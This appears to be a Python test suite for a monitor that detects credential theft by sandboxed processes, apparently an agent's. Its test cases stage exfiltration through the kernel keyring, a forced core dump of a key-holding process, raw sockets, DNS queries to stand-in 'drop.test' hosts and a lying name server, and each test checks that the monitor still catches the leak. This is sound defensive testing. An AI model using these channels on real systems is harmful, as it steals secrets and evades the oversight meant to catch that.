# SPDX-License-Identifier: Apache-2.0
"""What the kernel does not show, or the agent believes. Right: a row all the same, or the README of the project says it
in these words; a key is never named for certain that was not sent."""
from attack import ANY, CREDENTIALS, HERE, NAMED, PYTHON, Attack, Right

HIDDEN = HERE + "/hidden.py"
CRASH = "import os, resource; resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)); os.chdir('/srv/free'); os.abort()"


class Hidden(Attack):
    def hidden(self, *words, **options):
        return self.start([PYTHON, "-I", HIDDEN, *words], binds=self.disk(), **options)


class Handed(Hidden):
    """One process has the key, another gets it by a way that is no file."""
    def attack_keyring_of_the_kernel(self):
        place = CREDENTIALS.replace("/home/", f"/{self.maker.public(8)}/")  # the name of the key in the ring
        self.more[place.removeprefix("/srv/")] = (self.key.profile(), 0o600)
        self.hidden("take", "into_keyring", place).wait(None)
        thief = self.hidden("take", "keyring", place, "out", "plain", self.host)
        return Right(taken=True, by=thief.pid, used=NAMED, stated="in a keyring of the kernel")

    def attack_core_dump_of_a_holder(self):
        self.start([PYTHON, "-I", "-c", CRASH], env=self.key.env(), binds=self.disk()).wait(None)
        thief = self.hidden("take", "core", "-", "out", "plain", self.host)
        return Right(taken=True, by=thief.pid, used=NAMED, stated="Of another process's memory: core dumps")


class Sent(Hidden):
    def nowhere(self):
        self.address = self.world.command(f"address {self.maker.public(8)}.drop.test")
        return self.address

    def attack_raw_packets(self):
        self.host = ""
        self.hidden("out", "raw", self.nowhere(), env=self.key.env())
        return Right(taken=True, used=ANY, stated="raw and packet sockets")

    def attack_data_in_questions_to_a_name_server(self):
        self.host = ""
        self.hidden("out", "datagram_anywhere", self.nowhere(), "53", env=self.key.env())
        return Right(taken=True, used=ANY, stated="What goes to port 53")

    def attack_name_server_of_its_own_that_lies(self):
        """The call is a row with its real address; whose that is, the name does not tell."""
        self.hidden("out", "own_name_server", f"{self.nowhere()}={self.host}", env=self.key.env())
        return self.at_its_address()

    def attack_name_server_that_lies_to_another_process(self):
        where = self.nowhere()
        self.hidden("out", "lie_for_others", f"{where}={self.host}").wait(None)
        self.hidden("out", "no_name", where, env=self.key.env())
        return self.at_its_address()

    def at_its_address(self):
        self.host = ""
        return Right(taken=True, used=NAMED, stated="A name server that lies is believed")

    def attack_more_places_than_are_told_apart(self):
        """The first 64 have rows of their own, the others share one: nothing is silent, and nothing grows."""
        count = 100
        self.hidden("out", "many_places", f"198.18.200/{count}", "9999", env=self.key.env())

        def right(rows):
            told = {row["destination"]["address"] for row in rows if row["type"] == "use"}
            return ([] if "" in told else ["no use stands for the places beyond the bound"]) + \
                ([] if 32 <= len(told) <= 65 else [f"{len(told)} places are told apart"])
        return right
